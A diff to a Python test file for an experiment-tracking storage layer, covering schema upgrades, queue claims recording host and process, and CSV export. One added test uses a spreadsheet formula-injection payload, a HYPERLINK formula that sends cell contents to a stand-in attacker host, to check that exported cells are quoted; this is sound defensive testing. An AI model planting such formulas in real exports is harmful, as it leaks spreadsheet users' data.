@@ -4,22 +4,21 @@ from __future__ import annotations
 
 import csv
 import dataclasses
+import os
 
 import pytest
-from sqlalchemy import text
+from sqlalchemy import inspect, select, text
 
 from storage import queue
 from storage.db import as_url, open_db
 from storage.export import export_csv
 from storage.migrations import SCHEMA_VERSION, SchemaError
+from storage.models import Run
 from storage.queries import TIDY_COLUMNS, list_runs, tidy_metrics
-from tests.storage.schema_v1 import OLD_RUN_ID, create_version_1_database
+from tests.storage.schema_v1 import OLD_RUN_ID, create_version_1_database, create_version_2_database
 from tests.storage.studies import grid_study
 from tests.storage.test_queue import Value
 from vocabulary.config import RunConfig
-
-#: A local model path deep enough that the label of its untrained run passes 200 characters.
-LONG_MODEL = "/shared/models/" + "e5-small-finetuned/" * 12
 
 
 def test_sqlite_pragmas_are_set(db):
@@ -38,7 +37,7 @@ def test_schema_version_recorded_and_reopen_is_noop(tmp_path):
     assert versions == list(range(1, SCHEMA_VERSION + 1))
 
 
-def test_version_1_database_is_upgraded_and_keeps_its_runs(database_url):
+def test_version_1_database_is_upgraded_and_keeps_its_runs(database_url, long_model_folder):
     create_version_1_database(database_url)
     db = open_db(database_url)
     with db.engine.connect() as connection:
@@ -49,7 +48,7 @@ def test_version_1_database_is_upgraded_and_keeps_its_runs(database_url):
     assert [(r["run_id"], r["value"]) for r in tidy_metrics(db)] == [(OLD_RUN_ID, 0.4375)]
     # What version 1 refused on PostgreSQL (VARCHAR(200) labels, VARCHAR(200) study names):
     study = dataclasses.replace(grid_study(name="n" * 300, sizes=(2,), seeds=(0,), baseline=True),
-                                template=RunConfig(model=LONG_MODEL, batch_size=2))
+                                template=RunConfig(model=long_model_folder, batch_size=2))
     assert len(study.expand()[0].label) > 200
     assert len(queue.submit_study(db, study).queued) == 3
     assert max(len(r.label) for r in list_runs(db)) > 200
@@ -58,6 +57,25 @@ def test_version_1_database_is_upgraded_and_keeps_its_runs(database_url):
     with reopened.engine.connect() as connection:
         assert connection.execute(text("SELECT count(*) FROM schema_version")).scalar() == SCHEMA_VERSION
     reopened.dispose()
+
+
+def test_version_2_database_gains_the_claiming_process_and_keeps_its_runs(database_url):
+    create_version_2_database(database_url)
+    db = open_db(database_url)
+    with db.engine.connect() as connection:
+        versions = connection.execute(text("SELECT version FROM schema_version ORDER BY version")).scalars().all()
+    assert versions == list(range(1, SCHEMA_VERSION + 1))
+    assert {"worker_host", "worker_pid"} <= {c["name"] for c in inspect(db.engine).get_columns("runs")}
+    (old,) = list_runs(db)
+    assert (old.id, old.status) == (OLD_RUN_ID, "done")
+    claimed = queue.claim_next(db, "w") or queue.claim_next(db, "w")
+    assert claimed is None  # nothing queued yet
+    run_id = queue.submit_study(db, grid_study(sizes=(2,), seeds=(0,))).queued[0]
+    assert queue.claim_next(db, "w").id == run_id
+    with db.session() as session:
+        claim = session.execute(select(Run.worker_host, Run.worker_pid).where(Run.id == run_id)).one()
+    assert tuple(claim) == (queue.this_host(), os.getpid())
+    db.dispose()
 
 
 def test_newer_schema_is_refused(tmp_path):
@@ -91,7 +109,7 @@ def test_csv_export_is_tidy_with_config_columns(db, tmp_path):
         queue.complete(db, run.id, "w", cells)
         done.append(run)
 
-    path = tmp_path / "out" / "report.csv"
+    path = tmp_path / "report.csv"
     assert export_csv(db, path) == 3 * len(cells)
     with path.open(encoding="utf-8") as stream:
         rows = list(csv.DictReader(stream))
@@ -111,3 +129,24 @@ def test_csv_export_is_tidy_with_config_columns(db, tmp_path):
     assert export_csv(db, only_first, study_id=first.study_id) == expected
     with only_first.open(encoding="utf-8") as stream:
         assert {r["study"] for r in csv.DictReader(stream)} == {"one"}
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(db, tmp_path):
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    queue.submit_study(db, grid_study(name=formula, sizes=(2,), seeds=(0,)))
+    run = queue.claim_next(db, "w")
+    cells = [Value(metric="@SUM(1+1)", value=-0.25), Value(metric="+cmd", value=0.5), Value(metric="\tx", value=1.0)]
+    queue.complete(db, run.id, "w", cells)
+    path = tmp_path / "report.csv"
+    export_csv(db, path)
+    with path.open(encoding="utf-8", newline="") as stream:
+        rows = list(csv.DictReader(stream))
+    assert {r["study"] for r in rows} == {"'" + formula}
+    assert sorted(r["metric"] for r in rows) == ["'\tx", "'+cmd", "'@SUM(1+1)"]
+    assert sorted(r["value"] for r in rows) == ["-0.25", "0.5", "1.0"]  # numbers stay numbers
+
+
+def test_export_into_a_missing_folder_is_refused_and_creates_nothing(db, tmp_path):
+    with pytest.raises(FileNotFoundError, match="the folder .*nowhere.* does not exist"):
+        export_csv(db, tmp_path / "nowhere" / "deeper" / "report.csv")
+    assert not (tmp_path / "nowhere").exists()
